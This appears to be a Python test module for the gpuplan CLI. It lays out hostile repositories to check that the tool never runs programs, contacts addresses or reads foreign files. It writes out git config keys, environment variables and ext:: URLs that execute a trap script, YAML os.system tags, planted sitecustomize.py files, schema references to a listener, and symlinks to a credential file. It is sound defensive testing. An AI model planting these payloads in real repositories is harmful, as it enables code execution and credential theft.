"""Platforms whose author wants whoever runs gpuplan to start a program, ask an address or touch another file.

Each form is one way to try. All are made of what a commit can hold, or, where its name says so, of variables of the
surroundings, of an archive that was unpacked, or of a repository that the user has set up without care.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path

from tests.cli.platforms import POOL, TENANT, a_platform, write
from tests.features.components.addresses import ALL, Fetching
from tests.git import a_repository, commit, git

LAYOUT = """\
apiVersion: gpuplan.dev/v1
kind: MigLayout
metadata: {name: small}
spec: {gpu: A100-80GB, instances: {1g.10gb: 7}}
---
apiVersion: gpuplan.dev/v1
kind: MigLayout
metadata: {name: large}
spec: {gpu: A100-80GB, instances: {1g.10gb: 3, 3g.40gb: 1}}
"""
COMPONENT = "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\n"
HOME = "overlays/dev/kustomize/scheduling"
NODES = """\
apiVersion: v1
kind: List
items:
- apiVersion: v1
  kind: Node
  metadata:
    name: gpu-1
    labels: {nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB, nvidia.com/gpu.count: "8"}
  status: {capacity: {nvidia.com/gpu: "8"}, allocatable: {nvidia.com/gpu: "8"}}
"""


@dataclass(frozen=True)
class Site:
    """A platform in a repository, and what lies around it."""

    base: Path
    address: str
    """Where a listener counts who connects."""

    @property
    def root(self) -> Path:
        return self.base / "repository"

    @property
    def victim(self) -> Path:
        """A file of somebody else's, with a credential."""
        return self.base / "victim/file"

    @property
    def trap(self) -> Path:
        """A program that leaves a trace."""
        return self.base / "bin/trap"

    @property
    def trace(self) -> Path:
        return self.base / "ran"


SECRET = "hunter2hunter2"


def a_site(base: Path, address: str) -> Site:
    """A platform that is built and committed, then changed and committed again."""
    site = Site(base, address)
    for folder in ("victim", "home", "temporary", "bin"):
        (base / folder).mkdir(parents=True)
    write(site.victim, f"kind: {SECRET}\n")
    write(site.trap, f'#!/bin/sh\necho ran >> "{site.trace}"\nexit 1\n')
    site.trap.chmod(0o755)
    root = a_platform(a_repository(site.root))
    listed = POOL.replace('namePattern: "research-[0-9]+"', "names: [gpu-1, gpu-2]")
    write(root / "policies/pool.yaml", listed.replace("timeSlicing: {replicas: 3}", "mig: {layout: small}"))
    write(root / "policies/layout.yaml", LAYOUT)
    write(root / "policies/tenant.yaml", TENANT.replace("guaranteed: 16", "unit: 1g.10gb, guaranteed: 4, limit: none"))
    write(root / "nodes.yaml", NODES)
    write(root / "objects/quota.yaml", QUOTA)
    write(root / "demand.yaml", DEMAND)
    write(root / HOME / "kustomization.yaml", f"{COMPONENT}resources: [o.yaml]\n")
    write(root / HOME / "o.yaml", NOTES)
    return site


QUOTA = """\
apiVersion: v1
kind: ResourceQuota
metadata: {name: a, namespace: b}
spec: {hard: {requests.nvidia.com/gpu: "4"}}
"""
NOTES = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: notes, namespace: other}\ndata: {a: b}\n"
DEMAND = """\
apiVersion: gpuplan.dev/v1
kind: Demand
metadata: {name: demand}
spec: {needs: [{team: research, name: a, pods: 2, memory: 8Gi}]}
"""


@dataclass(frozen=True)
class Form:
    """A way to try: what is laid out, and what the surroundings say."""

    name: str
    lay: Callable[[Site], None]
    variables: Callable[[Site], Mapping[str, str]] = field(default=lambda _: {})
    is_about_git: bool = False
    """Whether it needs a command that starts git."""
    finding: str = ""
    """The rule by which `build` refuses it, where one does."""
    folder: str = "."
    """Where the platform is, from the repository."""


# --- Folders that git takes for repositories -------------------------------------------------------------------------

_LAZY = (
    "[core]\nrepositoryformatversion = 1\nbare = false\nworktree = {worktree}\n{core}\n"
    "[extensions]\npartialClone = origin\n"
    '[remote "origin"]\nurl = ssh://x/y\npromisor = true\n{rest}'
)


def a_bare_repository(
    site: Site, place: str, core: str = "sshCommand = {trap}\nfsmonitor = {trap}", rest: str = "", worktree: str = "."
) -> Path:
    """Make a folder what git takes for a repository, with an index that makes it fetch."""
    folder = site.root / place
    other = site.base / "other"
    if not other.exists():
        write(a_repository(other) / "dev/.gitignore", "x\n")
        git(other, "add", ".")
        git(other, "update-index", "--skip-worktree", "dev/.gitignore")
    told = {"trap": site.trap, "address": site.address, "worktree": worktree}
    config = _LAZY.replace("{core}", core).replace("{rest}", rest)
    for name, value in told.items():
        config = config.replace(f"{{{name}}}", str(value))
    write(folder / "config", config)
    write(folder / "HEAD", "a" * 40 + "\n")
    write(folder / "objects/x", "")
    write(folder / "refs/x", "")
    shutil.copy(other / ".git/index", folder / "index")
    hooks = ("fsmonitor-watchman", "post-index-change", "reference-transaction", "post-checkout", "pre-auto-gc")
    for hook in hooks:
        write(folder / "hooks" / hook, f"#!/bin/sh\nexec {site.trap}\n")
        (folder / "hooks" / hook).chmod(0o755)
    return folder


def spoof(site: Site, place: str, base: str = "HEAD") -> None:
    """Lend it the real objects, and let its HEAD be the commit to compare with."""
    folder = a_bare_repository(site, place, worktree="..")
    write(folder / "HEAD", git(site.root, "rev-parse", base) + "\n")
    up = "/".join(".." for _ in Path(place).parts)
    write(folder / "objects/info/alternates", f"{up}/../.git/objects\n")


def _in_place(place: str) -> Form:
    name = f"bare-in-{place.replace('/', '-') if place != '.' else 'the-root'}"
    return Form(name, partial(_lay_bare, place=place), finding="GPU023")


def _lay_bare(site: Site, place: str) -> None:
    a_bare_repository(site, place)


_PLACES = ("policies", "policies/deep/down", "policies/.hidden", "overlays", "overlays/dev", HOME, "out", "out/dev/new")


def _named_otherwise(site: Site) -> None:
    folder = a_bare_repository(site, "policies/case")
    for name in ("HEAD", "objects", "refs"):
        (folder / name).rename(folder / name.swapcase())


def _by_common_folder(site: Site) -> None:
    """Objects and references elsewhere, as a work tree has them."""
    folder = a_bare_repository(site, "out")
    for name in ("objects", "refs"):
        shutil.rmtree(folder / name)
    write(folder / "commondir", "../docs/common\n")
    a_bare_repository(site, "docs/common")


_BOUND = "[core]\nrepositoryformatversion = 0\nbare = false\n{core}\n{rest}"
_KEYS: Mapping[str, tuple[str, str]] = {
    "ssh-command": ("sshCommand = {trap}", ""),
    "fsmonitor": ("fsmonitor = {trap}", ""),
    "fsmonitor-hook": ("fsmonitor = true\nhooksPath = hooks", ""),
    "hooks-path": ("hooksPath = {trap}", ""),
    "pager": ("pager = {trap}", "[pager]\nls-files = {trap}\nrev-parse = {trap}\ncat-file = {trap}\n"),
    "editor": ("editor = {trap}\nsshCommand = false", "[sequence]\neditor = {trap}\n"),
    "alias": ("", '[alias]\nls-files = "!{trap}"\nrev-parse = "!{trap}"\ncat-file = "!{trap}"\nx = "!{trap}"\n'),
    "external-diff": ("", "[diff]\nexternal = {trap}\n"),
    "filters": ("", '[filter "own"]\nsmudge = {trap}\nclean = {trap}\nprocess = {trap}\nrequired = true\n'),
    "textconv": ("attributesFile = docs/attributes", '[diff "own"]\ntextconv = {trap}\ncommand = {trap}\n'),
    "credential-helper": ("", '[credential]\nhelper = "!{trap}"\n[remote "origin"]\nurl = http://{address}/x\n'),
    "ask-pass": ("askPass = {trap}", '[remote "origin"]\nurl = http://{address}/x\n'),
    "proxy": ("gitProxy = {trap}", '[remote "origin"]\nurl = git://{address}/x\n'),
    "http": ("", '[remote "origin"]\nurl = http://{address}/x\n'),
    "http-proxy": ("", '[http]\nproxy = http://{address}\n[remote "origin"]\nurl = http://example.com/x\n'),
    "external-protocol": ("", '[protocol]\nallow = always\n[remote "origin"]\nurl = "ext::{trap} %S"\n'),
    "one-protocol": ("", '[protocol "ext"]\nallow = always\n[remote "origin"]\nurl = "ext::{trap} %S"\n'),
    "remote-helper": ("", '[remote "origin"]\nvcs = own\nurl = x\n'),
    "instead-of": ("", '[url "ext::{trap} "]\ninsteadOf = ssh://\n[protocol "ext"]\nallow = always\n'),
    "upload-pack": ("", '[protocol "file"]\nallow = always\n[remote "origin"]\nurl = .\nuploadpack = {trap}\n'),
    "alternate-references": ("alternateRefsCommand = {trap}", ""),
    "signatures": ("", "[gpg]\nprogram = {trap}\n[log]\nshowSignature = true\n"),
    "include": ("", "[include]\npath = ../more.conf\n"),
    "include-if": ("", '[includeIf "gitdir/i:/"]\npath = ../more.conf\n'),
    "trace-to-a-file": ("", "[trace2]\neventTarget = {trap}.log\nnormalTarget = {trap}.log\nperfTarget = {trap}.log\n"),
    "work-tree": ("worktree = {trap}/..", ""),
    "config-of-a-work-tree": ("", "[extensions]\nworktreeConfig = true\n"),
    "permissions": ("sharedRepository = 0777\nfsmonitor = {trap}", '[safe]\ndirectory = "*"\nbareRepository = all\n'),
}


def _with_keys(site: Site, core: str, rest: str) -> None:
    """The settings in a repository in `out/`, and in one that is the platform's own folder."""
    for place in ("out", "gpu"):
        folder = a_bare_repository(site, place, core, rest)
        write(folder / "config.worktree", f"[core]\nfsmonitor = {site.trap}\nsshCommand = {site.trap}\n")
        write(folder / "more.conf", f"[core]\nfsmonitor = {site.trap}\nsshCommand = {site.trap}\n")
        write(site.root / "more.conf", f"[core]\nfsmonitor = {site.trap}\nsshCommand = {site.trap}\n")
    write(site.root / "docs/attributes", "* diff=own filter=own\n")
    write(site.root / ".gitattributes", "* diff=own filter=own\n")
    for folder_name in ("policies", "overlays"):
        shutil.copytree(site.root / folder_name, site.root / "gpu" / folder_name)


def _at_home(site: Site, core: str, rest: str) -> None:
    """The same in the user's own repository, whose settings count otherwise: nobody is asked, and nothing started."""
    commit(site.root)
    told = {"trap": site.trap, "address": site.address}
    more = f"\n[core]\n{core}\n{rest}".replace('[remote "origin"]\n', '[remote "origin"]\npromisor = true\n')
    for name, value in told.items():
        more = more.replace(f"{{{name}}}", str(value))
    config = site.root / ".git/config"
    write(config, config.read_text() + more)
    write(site.root / "more.conf", f"[core]\nfsmonitor = {site.trap}\nsshCommand = {site.trap}\n")
    for hook in ("fsmonitor-watchman", "post-index-change", "reference-transaction"):
        write(site.root / ".git/hooks" / hook, f"#!/bin/sh\nexec {site.trap}\n")
        (site.root / ".git/hooks" / hook).chmod(0o755)


def _gitfile(site: Site) -> None:
    """As an archive can hold it: a `.git` in `out/` that leads to settings of its author."""
    a_bare_repository(site, "docs/evil", worktree="../../out")
    write(site.root / "out/.git", "gitdir: ../docs/evil\n")


def _submodule(site: Site) -> None:
    """A submodule whose update is a command, checked out as a folder of the platform."""
    other = a_repository(site.base / "module")
    write(other / "p.yaml", "kind: nothing\n")
    commit(other)
    git(site.root, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", other.as_uri(), "policies/shared")
    write(site.root / ".gitmodules", (site.root / ".gitmodules").read_text() + f"\tupdate = !{site.trap}\n")
    config = site.root / ".git/modules/policies/shared/config"
    write(config, config.read_text() + f"[core]\nfsmonitor = {site.trap}\nsshCommand = {site.trap}\n")


def _work_tree(site: Site) -> None:
    """`out/` as a work tree of its own, whose settings start something."""
    commit(site.root)
    git(site.root, "config", "extensions.worktreeConfig", "true")
    shutil.rmtree(site.root / "out", ignore_errors=True)
    git(site.root, "worktree", "add", "--quiet", "--detach", "out")
    write(site.root / ".git/worktrees/out/config.worktree", f"[core]\nfsmonitor = {site.trap}\n")


def _git_forms() -> Iterator[Form]:
    yield Form("bare-as-the-root", partial(_lay_bare, place="."))
    yield from map(_in_place, _PLACES)
    yield Form("bare-in-other-case", _named_otherwise, finding="GPU023")
    yield Form("bare-by-common-folder", _by_common_folder, finding="GPU023")
    yield Form("spoof-in-out", partial(spoof, place="out"), finding="GPU023")
    yield Form("spoof-in-policies", partial(spoof, place="policies"), finding="GPU023")
    yield Form("archive-gitfile-in-out", _gitfile)
    yield Form("submodule", _submodule)
    yield Form("work-tree-in-out", _work_tree)
    for name, (core, rest) in _KEYS.items():
        lay = partial(_with_keys, core=core, rest=rest)
        yield Form(f"key-{name}", lay, is_about_git=True, folder="gpu", finding="GPU023")
        yield Form(f"own-{name}", partial(_at_home, core=core, rest=rest), is_about_git=True)


# --- Surroundings ----------------------------------------------------------------------------------------------------


def _nothing(_: Site) -> None: ...


def _programs_in_the_root(site: Site) -> None:
    for folder in (site.root, site.root / "programs", site.root / "out", site.base):
        for name in ("git", "kustomize", "kubectl", "git-ls-files", "python3", "sh"):
            write(folder / name, f"#!/bin/sh\nexec {site.trap}\n")
            (folder / name).chmod(0o755)


def _fake_programs_of_git(site: Site) -> None:
    for name in ("git-ls-files", "git-rev-parse", "git-cat-file", "git-remote-http", "git"):
        shutil.copy(site.trap, site.base / "bin" / name)


_GIT_VARIABLES: Mapping[str, str] = {
    "GIT_DIR": "{root}/docs/evil",
    "GIT_WORK_TREE": "{base}/victim",
    "GIT_COMMON_DIR": "{root}/docs/evil",
    "GIT_INDEX_FILE": "{base}/victim/file",
    "GIT_SSH_COMMAND": "{trap}",
    "GIT_SSH": "{trap}",
    "GIT_EXTERNAL_DIFF": "{trap}",
    "GIT_PAGER": "{trap}",
    "GIT_EDITOR": "{trap}",
    "GIT_ASKPASS": "{trap}",
    "GIT_PROXY_COMMAND": "{trap}",
    "GIT_EXEC_PATH": "{base}/bin",
    "GIT_TEMPLATE_DIR": "{root}/docs/evil",
    "GIT_TRACE": "{base}/victim/file",
    "GIT_TRACE2_EVENT": "{base}/victim/file",
    "GIT_TRACE_PACKET": "{base}/victim/file",
    "GIT_TRACE_SETUP": "{base}/victim/new",
    "GIT_REDIRECT_STDERR": "{base}/victim/file",
    "GIT_ALLOW_PROTOCOL": "ext:http:ssh:file",
    "GIT_PROTOCOL_FROM_USER": "1",
    "GIT_ATTR_SOURCE": "HEAD",
    "GIT_CONFIG": "{root}/docs/evil/config",
    "GIT_FSMONITOR_TEST": "{trap}",
    "GIT_NO_LAZY_FETCH": "0",
}


def _filled(site: Site, names: Mapping[str, str]) -> Mapping[str, str]:
    told = {"root": site.root, "base": site.base, "trap": site.trap, "address": site.address}
    return {name: value.format(**told) for name, value in names.items()}


def _settings(*pairs: tuple[str, str]) -> Mapping[str, str]:
    found = {"GIT_CONFIG_COUNT": str(len(pairs))}
    for index, (key, value) in enumerate(pairs):
        found |= {f"GIT_CONFIG_KEY_{index}": key, f"GIT_CONFIG_VALUE_{index}": value}
    return found


_CONFIGURED: Mapping[str, Mapping[str, str]] = {
    "count": _settings(
        ("core.fsmonitor", "{trap}"), ("core.sshCommand", "{trap}"), ("core.hooksPath", "{base}/bin"),
        ("safe.bareRepository", "all"), ("protocol.allow", "always"), ("core.pager", "{trap}"),
    ),
    "parameters": {"GIT_CONFIG_PARAMETERS": "'core.fsmonitor'='{trap}' 'core.sshCommand'='{trap}'"},
    "global": {"GIT_CONFIG_GLOBAL": "{root}/more.conf"},
    "system": {"GIT_CONFIG_SYSTEM": "{root}/more.conf", "GIT_CONFIG_NOSYSTEM": "0"},
    "home": {"XDG_CONFIG_HOME": "{root}/docs"},
    "traces-of-home": {"HOME": "{root}/home"},
}  # fmt: skip


def _with_a_repository_beside(site: Site) -> None:
    a_bare_repository(site, "docs/evil")
    _fake_programs_of_git(site)
    settings = f"[core]\nfsmonitor = {site.trap}\nsshCommand = {site.trap}\npager = {site.trap}\n"
    write(site.root / "more.conf", settings)
    write(site.root / "docs/git/config", settings)
    targets = "".join(f"{name}Target = {site.base}/victim/{name}\n" for name in ("event", "normal", "perf"))
    write(site.root / "home/.gitconfig", f"[trace2]\n{targets}")


def _variable_forms() -> Iterator[Form]:
    for name, value in _GIT_VARIABLES.items():
        shown = name.lower().replace("_", "-")
        yield Form(
            f"variable-{shown}", _with_a_repository_beside, partial(_filled, names={name: value}), is_about_git=True
        )
    for name, names in _CONFIGURED.items():
        yield Form(f"configured-by-{name}", _with_a_repository_beside, partial(_filled, names=names), is_about_git=True)
    for name, path in {"dot": ".", "empty": "", "relative": "programs", "up": ".."}.items():
        yield Form(f"path-with-{name}", _programs_in_the_root, partial(_searching, path=path))


def _searching(_: Site, path: str) -> Mapping[str, str]:
    return {"PATH": f"{path}{os.pathsep}{os.environ['PATH']}"}


# --- Schemas ---------------------------------------------------------------------------------------------------------

_REFERENCES = {
    "http": "http://{address}/x.json",
    "http-with-a-fragment": "http://{address}/x.json#/a/b",
    "file": "file://{victim}#/kind",
    "relative-file": "victim#/kind",
    "ftp": "ftp://{address}/x",
}
_KINDS = ("/proc/self/cwd/evil", "../../../../../../../../{root}/evil", "{root}/evil", "{root}/EVIL", "evil/../evil")
_VERSIONS = ("v1", "../v1", "{root}/v1", "a/../../v1", "apps/v1", "x/{root}/v1")


def _traversal(site: Site, reference: str, kind: str, version: str) -> None:
    """A schema of the branch's own, where names of an object would lead if they were a path."""
    told = {"address": site.address, "victim": site.victim, "root": site.root}
    kind, version = kind.format(**told), version.format(**told)
    rule = '{"properties":{"apiVersion":{"enum":["%s"]},"kind":{"enum":["%s"]},"spec":{"$ref":"%s"}}}'
    text = rule % (version, kind, reference.format(**told))
    write(site.root / f"evil-{version.rpartition('/')[2]}.json", text)
    body = f'apiVersion: "{version}"\nkind: "{kind}"\nmetadata: {{name: a, namespace: b}}\nspec: {{a: 1}}\n'
    write(site.root / HOME / "o.yaml", body)
    write(site.root / "objects/o.yaml", body)
    write(site.root / "nodes.yaml", f"{NODES}---\n{body}")


_DEFINITION = """\
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: things.example.com}
spec:
  group: example.com
  names: {kind: Thing, plural: things}
  scope: Namespaced
  versions:
  - name: v1
    served: true
    storage: true
    schema:
      openAPIV3Schema:
        type: object
        properties:
          spec: {type: object, KEYWORD: "REFERENCE", x-kubernetes-preserve-unknown-fields: true}
"""


def _definition(site: Site, keyword: str, reference: str) -> None:
    text = _DEFINITION.replace("KEYWORD", keyword).replace("REFERENCE", reference)
    write(
        site.root / "crds/things.yaml",
        text.format(address=site.address, victim=site.victim) if "{" in reference else text,
    )
    thing = "apiVersion: example.com/v1\nkind: Thing\nmetadata: {name: a, namespace: b}\nspec: {a: 1}\n"
    write(site.root / HOME / "o.yaml", thing)
    write(site.root / "objects/o.yaml", thing)


def _definition_link(site: Site) -> None:
    (site.root / "crds").mkdir()
    (site.root / "crds/things.yaml").symlink_to(site.victim)
    write(site.root / "crds/more.yaml", _DEFINITION.replace('KEYWORD: "REFERENCE", ', ""))


def _schema_forms() -> Iterator[Form]:
    for name, reference in _REFERENCES.items():
        yield Form(
            f"kind-to-{name}", partial(_traversal, reference=reference, kind=_KINDS[0], version="v1"), finding="GPU6"
        )
    for index, kind in enumerate(_KINDS[1:]):
        lay = partial(_traversal, reference=_REFERENCES["http"], kind=kind, version="v1")
        yield Form(f"kind-as-a-path-{index}", lay)
    for index, version in enumerate(_VERSIONS[1:]):
        lay = partial(_traversal, reference=_REFERENCES["http"], kind="Evil", version=version)
        yield Form(f"version-as-a-path-{index}", lay)
    for keyword in ("$ref", "$id", "$schema", "$dynamicRef", "$recursiveRef"):
        lay = partial(_definition, keyword=keyword, reference=f"http://ADDRESS/{keyword.strip('$')}")
        yield Form(f"definition-{keyword.strip('$').lower()}", partial(_addressed, lay=lay))
    yield Form("definition-link", _definition_link)


def _addressed(site: Site, lay: Callable[[Site], None]) -> None:
    lay(site)
    file = site.root / "crds/things.yaml"
    write(file, file.read_text().replace("ADDRESS", site.address))


# --- Links -----------------------------------------------------------------------------------------------------------


def _link(site: Site, place: str, target: str) -> None:
    there = site.root / place
    if there.is_dir() and not there.is_symlink():
        shutil.rmtree(there)
    there.unlink(missing_ok=True)
    there.parent.mkdir(parents=True, exist_ok=True)
    there.symlink_to(target.format(victim=site.victim, folder=site.victim.parent, root=site.root))


REPORTS = ("report.html", "findings.sarif", "findings.md", "gpuplan.md", "difference.json", "drift.json")
_LINKS = {
    "out": ("out", "{folder}"),
    "out-to-nowhere": ("out", "{folder}/new"),
    "out-to-git": ("out", ".git"),
    "out-of-a-cluster": ("out/dev", "{folder}"),
    "state": ("out/.gpuplan", "{folder}"),
    "inventory": ("out/.gpuplan/inventory", "{victim}"),
    "unfinished": ("out/.gpuplan/new", "{victim}"),
    "policies": ("policies", "{folder}"),
    "overlays": ("overlays", "{folder}"),
    "overlay": ("overlays/dev", "{folder}"),
    "new-overlay": ("overlays/new", "{folder}"),
    "overlays-to-hooks": ("overlays", ".git/hooks/post-checkout"),
    "overlay-to-hooks": ("overlays/new", "../.git/hooks"),
    "policies-to-git": ("policies", ".git/info"),
    "policy": ("policies/link.yaml", "{victim}"),
    "policy-to-git": ("policies/link.yaml", "../.git/config"),
    "component": (f"{HOME}/o.yaml", "{victim}"),
    "kustomization": (f"{HOME}/kustomization.yaml", "{victim}"),
    "retained": ("overlays/dev/retained", "{folder}"),
    "packed": ("overlays/dev/packed.yaml", "{victim}"),
    "rollout": ("overlays/dev/rollout-research.yaml", "{victim}"),
    "attributes": (".gitattributes", "{victim}"),
    "editor": (".vscode", "{folder}"),
    "objects": ("objects/quota.yaml", "{victim}"),
    "nodes": ("nodes.yaml", "{victim}"),
    "nodes-to-git": ("nodes.yaml", ".git/config"),
    "demand": ("demand.yaml", "{victim}"),
    "started": ("started/policies", "{folder}"),
    "to-a-device": ("policies/link.yaml", "/dev/zero"),
    "to-itself": ("policies/link.yaml", "link.yaml"),
}


def _link_reports(site: Site) -> None:
    for name in REPORTS:
        _link(site, name, "{victim}")


def _link_reports_to_git(site: Site) -> None:
    for name in REPORTS:
        _link(site, name, ".git/config")


def _link_folder_of_reports(site: Site) -> None:
    for name in REPORTS:
        _link(site, f"reports-{name}", "{victim}")


def _link_forms() -> Iterator[Form]:
    for name, (place, target) in _LINKS.items():
        yield Form(f"link-{name}", partial(_link, place=place, target=target))
    yield Form("link-reports", _link_reports)
    yield Form("link-reports-to-git", _link_reports_to_git)


# --- Components and texts --------------------------------------------------------------------------------------------


def _component(site: Site, fetching: Fetching) -> None:
    home = site.root / HOME
    shutil.rmtree(home)
    found = fetching.at(site.address)
    write(home / "kustomization.yaml", COMPONENT + found.text)
    for path, text in found.files.items():
        write(Path(home / path).resolve(), text)
    for path, target in found.links.items():
        (home / path).symlink_to(target)


def _executable(site: Site, text: str) -> None:
    home = site.root / HOME
    write(home / "kustomization.yaml", COMPONENT + text)
    write(home / "plugin.yaml", _PLUGIN + f"      exec: {{path: {site.trap}}}\n")
    write(home / "container.yaml", _PLUGIN + f"      container: {{image: {site.address}/a}}\n")


_PLUGIN = """\
apiVersion: someteam.example.com/v1
kind: Own
metadata:
  name: a
  annotations:
    config.kubernetes.io/function: |
"""


def _written(site: Site, path: str, text: str) -> None:
    for name, value in {"trap": site.trap, "address": site.address}.items():
        text = text.replace(f"{{{name}}}", str(value))
    write(site.root / path, text)


_TEXTS = {
    "yaml-tag": ("policies/x.yaml", '!!python/object/apply:os.system ["{trap}"]\n'),
    "yaml-tag-in-an-object": (f"{HOME}/o.yaml", 'kind: !!python/object/apply:os.system ["{trap}"]\n'),
    "yaml-tag-in-a-dump": ("nodes.yaml", '!!python/object/new:os.system ["{trap}"]\n'),
    "yaml-tag-in-a-demand": ("demand.yaml", '!!python/name:os.system ["{trap}"]\n'),
    "template": ("policies/pool.yaml", POOL.replace("research-[0-9]+", "{{ ''.__class__.__mro__ }}$({trap})`{trap}`")),
    "schema-of-an-editor": ("policies/x.yaml", "# yaml-language-server: $schema=http://{address}/x\nkind: Pool\n"),
    "hidden-settings": (".gpuplan/config.yaml", "kustomize: {trap}\n"),
    "settings-of-python": ("pyproject.toml", "[tool.gpuplan]\nkustomize = '{trap}'\n"),
    "module-of-python": ("yaml.py", "import os\nos.system('{trap}')\n"),
    "module-of-the-package": ("gpuplan/__init__.py", "import os\nos.system('{trap}')\n"),
    "site-of-python": ("sitecustomize.py", "import os\nos.system('{trap}')\n"),
    "demand-with-a-table": ("demand.yaml", DEMAND.replace("needs:", "tables: [../victim/file], needs:")),
}


def _content_forms() -> Iterator[Form]:
    chosen = [item for index, item in enumerate(ALL) if index % (len(ALL) // 8) == 0]
    for item in chosen:
        yield Form(f"component-{item.name}", partial(_component, fetching=item))
    for field_ in ("generators", "transformers", "validators"):
        for file in ("plugin", "container"):
            yield Form(f"{file}-of-{field_}", partial(_executable, text=f"{field_}: [{file}.yaml]\n"))
    charts = "helmCharts: [{name: a, repo: http://127.0.0.1:9, releaseName: a}]\nhelmGlobals: {chartHome: charts}\n"
    yield Form("helm", partial(_executable, text=charts))
    for name, (path, text) in _TEXTS.items():
        yield Form(name, partial(_written, path=path, text=text))


FORMS = (*_git_forms(), *_variable_forms(), *_schema_forms(), *_link_forms(), *_content_forms())


def lay_out(site: Site, form: Form, *, is_committed: bool = True) -> None:
    """Make the platform that the form is about, and commit it where git can still do that."""
    commit(site.root, "base")
    form.lay(site)
    layout = site.root / form.folder / "policies/layout.yaml"
    if layout.is_file():
        write(layout, layout.read_text().replace("1g.10gb: 7", "1g.10gb: 6"))
    if not is_committed:
        return
    # A commit of what git takes for a repository, a link or a submodule: whatever stands in the way is left out.
    subprocess.run(
        ["git", *_PLAIN, "add", "--all", "--force"], cwd=site.root, capture_output=True, check=False, env=_variables()
    )
    subprocess.run(
        ["git", *_PLAIN, "commit", "--quiet", "--allow-empty", "--message", "change"],
        cwd=site.root, capture_output=True, check=False, env=_variables(),
    )  # fmt: skip
    site.trace.unlink(missing_ok=True)


_PLAIN = (
    *(
        "-c",
        "core.hooksPath=/dev/null",
        "-c",
        "core.fsmonitor=",
        "-c",
        "filter.own.clean=cat",
        "-c",
        "filter.own.smudge=cat",
    ),
    *("-c", "filter.own.process=", "-c", "core.worktree=", "-c", "safe.bareRepository=explicit"),
)


def _variables() -> dict[str, str]:
    kept = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
    return {**kept, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
